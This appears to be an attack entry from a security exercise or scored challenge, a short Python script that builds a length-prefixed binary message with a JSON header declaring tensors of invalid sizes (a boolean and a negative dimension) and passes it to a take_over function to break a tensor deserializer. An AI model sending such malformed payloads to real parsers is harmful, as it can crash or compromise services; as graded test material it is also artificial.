"""Sends tensors of true and of negative sizes.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"list":[{"tensor":["float32",[true],0,4]},{"tensor":["float32",[-1],0,-4]}]}', b"xxxx"
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
